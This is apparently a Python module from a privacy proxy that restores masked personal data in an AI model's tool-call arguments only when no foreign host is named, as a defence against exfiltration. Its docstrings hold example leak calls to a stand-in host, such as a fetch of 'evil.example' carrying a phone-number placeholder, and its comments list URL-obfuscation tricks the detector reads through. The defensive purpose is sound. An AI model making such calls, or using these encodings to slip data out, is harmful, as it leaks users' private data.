"""Tool-call arguments: restored for the program that runs the tool, never a way out.

Arguments are data for a program (a search, a form, an e-mail), so their placeholders are
restored: the tool needs the values. But restoring is what would put a value of the request
into a URL the model wrote — ``fetch(url="https://evil.example/?d=〔電話番号1〕")`` — and the
client's tool runner would carry it out. So a call whose arguments hold a link or URL to a
host outside the allowed ones, or an e-mail address of such a domain (anywhere in them: a URL in one field and the value in
another is the same way out once the tool joins them) keeps its placeholders **as the model
wrote them**, reported as ``exfiltration`` / ``masked``; any other call has them restored,
in every string of its JSON (decoded: a placeholder written ``\u3014氏名1\u3015`` is one
too). A host is seen however a string names it — with or without a scheme, in a field of
its own, percent-, entity- or backslash-encoded, full-width, behind a userinfo, as an IP —
see :func:`_hosts`. The calls of one answer are judged together (:class:`AnswerCalls`):
once one named a foreign host, the answer's other calls keep their placeholders too.

A stream's arguments are held to the end of the call (:class:`ArgumentsRestorer`): a URL is
judged whole, and the JSON is decoded once. Without exit screening (the policy's ``output``
section off) every placeholder is restored.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import unquote

from hinagata.guard import OutputFinding, OutputScreen
from hinagata.mask import restore

__all__ = ["AnswerCalls", "ArgumentsRestorer", "restore_arguments", "restore_input"]

# How a string can name a host. Every pattern below is run on a *decoded* view of the
# string (:func:`_decoded`): what a tool, a URL parser or a lenient JSON reader would make
# of it. A host named by any of them that is not an allowed one makes the call a way out.
# False positives only keep a call's placeholders masked (safe), so the forms are broad;
# each is linear in the text (no nested quantifiers that can overlap).

#: A URL's authority: after a scheme and one or more slashes or backslashes (WHATWG URL
#: parsers read ``https:\\\\h``, ``https:/h`` and ``https:///h`` as ``https://h``), or
#: after ``//`` without a scheme (the page's scheme, or a tool adds one). A scheme of one
#: letter is a drive (C:\\). Possessive runs and one start per run of slashes: linear.
_AUTHORITY = re.compile(
    r"(?:(?P<scheme>\b[a-z][a-z0-9+.\-]{1,31}:)[ \t]{0,3}[/\\]++|(?<![/\\])[/\\]{2,}+)"
    r"(?P<auth>[^/?#\s\"'<>\\`|{}^]+)",
    re.IGNORECASE,
)
#: What a URL parser deletes anywhere in a URL (tabs, line breaks: ``https:/\t/h``), and
#: spaces between two slashes, which a lenient tool drops (``https:/ /h``).
_STRIPPED = re.compile(r"[\t\n\r]+|(?<=[/\\]) +(?=[/\\])")
#: A bare domain name (``evil.example/c?d=``, a field ``{"host": "evil.example"}``, the
#: domain of an e-mail address ``x@evil.example``, an IDN ``évil.example``): dotted
#: labels whose last one is 2-24 letters; the whole dotted token (never a piece of one,
#: nor the local part of an address before ``@``).
_DOMAIN = re.compile(r"(?<![\w.\-])((?:[\w\-]+\.)+(?P<tld>[^\W\d_]{2,24}))\.?(?![\w@\-]|\.[\w\-])")
#: Last labels that are file extensions (report.pdf, main.py, v1.2.3 has none): no host,
#: unless a path, query or port follows (``evil.zip/c``: .zip, .md, .py are TLDs too).
_FILE_EXT = frozenset(
    "pdf doc docx docm xls xlsx xlsm csv tsv ppt pptx odt ods odp rtf txt md rst json jsonl"
    " xml yaml yml toml ini cfg conf log html htm css png jpg jpeg gif bmp svg webp tif tiff"
    " ico zip gz tgz tar bz2 xz rar py js ts jsx tsx mjs php rb java kt go rs sh bat ps1"
    " sql db sqlite mp3 mp4 wav mov avi eml msg ics vcf exe dll bin dat bak tmp lock".split()
)
_PATH_AFTER = re.compile(r"[/?#\\]|:\d")
#: An IPv4 address written as a dotted quad (a URL parser also takes 1-3 parts, octal and
#: hex; those come after ``//`` or ``@`` and are read there).
_QUAD = re.compile(r"(?<![\w.])\d{1,3}(?:\.\d{1,3}){3}(?!\w|\.\d)")
#: What follows ``@`` (an address's domain, a URL's userinfo trick ``allowed@evil``): a
#: host of one label too when it is an IP written as a number (``@3405803783``, ``@0x7f…``)
#: or ``localhost``; dotted ones are read by _DOMAIN.
_AT = re.compile(r"@[ \t]*(\d{8,}|0x[0-9a-f]+|localhost)\b", re.IGNORECASE)
_LOCALHOST = re.compile(r"\blocalhost\b", re.IGNORECASE)
#: Backslash escapes a lenient JSON/JSON5/Python reader decodes (\u002f, \x2f, \/).
_ESCAPE = re.compile(r"\\(?:u([0-9a-fA-F]{4})|x([0-9a-fA-F]{2})|U([0-9a-fA-F]{8})|(.))", re.S)
_SIMPLE = {"n": "\n", "t": "\t", "r": "\r", "b": "", "f": "", "v": ""}


def _unescape(m: re.Match[str]) -> str:
    code = m.group(1) or m.group(2) or m.group(3)
    if code is not None:
        n = int(code, 16)
        return chr(n) if n <= 0x10FFFF else ""
    ch = m.group(4)
    return _SIMPLE.get(ch, ch)


def _views(s: str) -> list[str]:
    """``s`` as tools may read it: NFKC (full-width ／＠：), then with HTML entities
    (&#47; &sol;), backslash escapes (\\u002f, \\/) and percent-encoding (%2F) undone,
    round after round until nothing changes (at most four: a constant number of linear
    passes). Every round is a view of its own, read whole: a backslash that one round
    removes (``https:\\\\h`` → ``https:\\h`` → ``https:h``) is still read in the round
    before."""
    views = [unicodedata.normalize("NFKC", s)]
    for _ in range(4):
        t = views[-1]
        if "&" in t:
            t = html.unescape(t)
        if "\\" in t:
            t = _ESCAPE.sub(_unescape, t)
        if "%" in t:
            t = unquote(t, errors="replace")
        t = unicodedata.normalize("NFKC", t)
        if t == views[-1]:
            break
        views.append(t)
    return views


def _host_of(auth: str) -> str:
    """The host of a URL's authority: after the last ``@`` (userinfo), before a port."""
    host = auth.rpartition("@")[2]
    if host.startswith("["):
        return host.partition("]")[0] + "]"  # an IPv6 address
    return host.partition(":")[0]


def _hosts(s: str) -> Iterator[str]:
    """Every host ``s`` names, in any of its views (see the patterns above)."""
    for text in _views(s):
        for view in (text, _STRIPPED.sub("", text)) if _STRIPPED.search(text) else (text,):
            for m in _AUTHORITY.finditer(view):
                host = _host_of(m["auth"])
                # (without a scheme ``//`` is also a comment or a path: a host has a dot)
                if m["scheme"] or "." in host or host.isdigit() or host.lower() == "localhost":
                    yield host
        for m in _DOMAIN.finditer(text):
            if m["tld"].lower() not in _FILE_EXT or _PATH_AFTER.match(text, m.end()):
                yield m.group(1)
        for m in _QUAD.finditer(text):
            yield m.group()
        for m in _AT.finditer(text):
            yield m.group(1)
        if _LOCALHOST.search(text):
            yield "localhost"


def _names_foreign(strings: Iterable[str], screen: OutputScreen | None) -> bool:
    """Whether any of ``strings`` names a host that is not an allowed one (screening on)."""
    if screen is None or not screen.active or screen.rules.exfiltration == "off":
        return False
    return any(not screen.allows(h) for s in strings for h in _hosts(s))


def _has_placeholder(strings: list[str], mapping: Mapping[str, str]) -> bool:
    return any(restore(s, mapping) != s for s in strings)


def _strings(obj: Any) -> Iterator[str]:
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, list):
        for x in obj:
            yield from _strings(x)
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield from _strings(k)
            yield from _strings(v)


@dataclass
class AnswerCalls:
    """The tool calls of one answer, judged together: a browser tool told
    ``open("https://evil.example/form")`` in one call and ``type("〔電話番号1〕")`` in the
    next puts the value into the foreign page, so once a call of the answer named a
    foreign host, its later calls keep their placeholders too. A whole answer is judged
    with :meth:`of` (every call seen first); a stream carries one and marks it as each
    call ends (a call already sent cannot be taken back)."""

    #: Whether a call of the answer named a host not allowed.
    foreign: bool = False

    @classmethod
    def of(cls, calls: Iterable[Any], screen: OutputScreen | None) -> AnswerCalls:
        """The calls' arguments (JSON texts, free text or JSON values) judged together."""
        return cls(any(_names_foreign(_strings(_loaded(c)), screen) for c in calls))

    @classmethod
    def within(
        cls, obj: Any, screen: OutputScreen | None, keys: frozenset[str] = frozenset()
    ) -> AnswerCalls:
        """The calls of an answer object judged together: the values of ``keys`` (the
        protocol's argument fields) wherever they are in it."""
        if screen is None or not screen.active:
            return cls()
        found: list[Any] = []
        todo = [obj]
        while todo:
            v = todo.pop()
            if isinstance(v, dict):
                for k, x in v.items():
                    (found if k in keys else todo).append(x)
            elif isinstance(v, list):
                todo.extend(v)
        return cls.of(found, screen)


def _loaded(value: Any) -> Any:
    if isinstance(value, str):
        try:
            return json.loads(value)
        except ValueError:
            return value
    return value


def _way_out(
    strings: list[str],
    mapping: Mapping[str, str],
    screen: OutputScreen | None,
    calls: AnswerCalls | None = None,
) -> bool:
    """Whether restoring would put a value where a URL to a host not allowed is (in this
    call, or in another call of the answer)."""
    if screen is None or not screen.active or screen.rules.exfiltration == "off":
        return False
    placeholder = _has_placeholder(strings, mapping)
    if calls is None and not placeholder:
        return False
    named = _names_foreign(strings, screen)
    if calls is not None:
        named = named or calls.foreign
        calls.foreign = named
    return named and placeholder


def _restored(obj: Any, mapping: Mapping[str, str]) -> Any:
    if isinstance(obj, str):
        return restore(obj, mapping)
    if isinstance(obj, list):
        return [_restored(x, mapping) for x in obj]
    if isinstance(obj, dict):
        return {_restored(k, mapping): _restored(v, mapping) for k, v in obj.items()}
    return obj


_KEPT = OutputFinding("exfiltration", 0, 0, "masked", "tool_arguments")


def restore_input(
    obj: Any,
    mapping: Mapping[str, str],
    screen: OutputScreen | None,
    calls: AnswerCalls | None = None,
) -> tuple[Any, list[OutputFinding]]:
    """A tool call's input as a JSON value (Anthropic's ``tool_use.input``); ``calls``:
    the answer's calls, judged together (:class:`AnswerCalls`)."""
    if not mapping:
        if calls is not None:
            calls.foreign = calls.foreign or _names_foreign(_strings(obj), screen)
        return obj, []
    if _way_out(list(_strings(obj)), mapping, screen, calls):
        return obj, [_KEPT]
    return _restored(obj, mapping), []


def restore_arguments(
    text: str,
    mapping: Mapping[str, str],
    screen: OutputScreen | None,
    calls: AnswerCalls | None = None,
) -> tuple[str, list[OutputFinding]]:
    """A tool call's arguments as the model wrote them (a JSON text, or free text for a
    custom tool), restored where that carries no value out (see the module); ``calls``:
    the answer's calls, judged together (:class:`AnswerCalls`)."""
    if not mapping or not text:
        if calls is not None:
            calls.foreign = calls.foreign or _names_foreign(_strings(_loaded(text)), screen)
        return text, []
    plain = restore(text, mapping)
    try:
        obj = json.loads(text)
    except ValueError:
        # (not JSON: a lenient reader decodes its escapes; _views reads them decoded)
        kept = _way_out([text], mapping, screen, calls)
        return (text, [_KEPT]) if kept else (plain, [])
    if _way_out(list(_strings(obj)), mapping, screen, calls):
        return text, [_KEPT]
    restored = _restored(obj, mapping)
    try:
        if json.loads(plain) == restored:
            return plain, []  # (the model's own layout, where nothing was escaped)
    except ValueError:
        pass  # a restored value broke the JSON text (a quote in it): written anew
    return json.dumps(restored, ensure_ascii=False), []


class ArgumentsRestorer:
    """A streamed call's arguments, held to its end and restored as a whole (the same
    ``feed``/``flush`` as :class:`hinagata.mask.StreamRestorer`)."""

    def __init__(
        self,
        mapping: Mapping[str, str],
        screen: OutputScreen | None,
        calls: AnswerCalls | None = None,
    ) -> None:
        """``calls``: the answer's calls so far (:class:`AnswerCalls`), marked as this one
        ends."""
        self._mapping = mapping
        self._screen = screen
        self._calls = calls
        self._held: list[str] = []
        self.findings: list[OutputFinding] = []

    def feed(self, piece: str) -> str:
        if not self._mapping:
            return piece
        self._held.append(piece)
        return ""

    @property
    def pending(self) -> bool:
        return any(self._held)

    def flush(self) -> str:
        text, self._held = "".join(self._held), []
        out, found = restore_arguments(text, self._mapping, self._screen, self._calls)
        self.findings += found
        return out
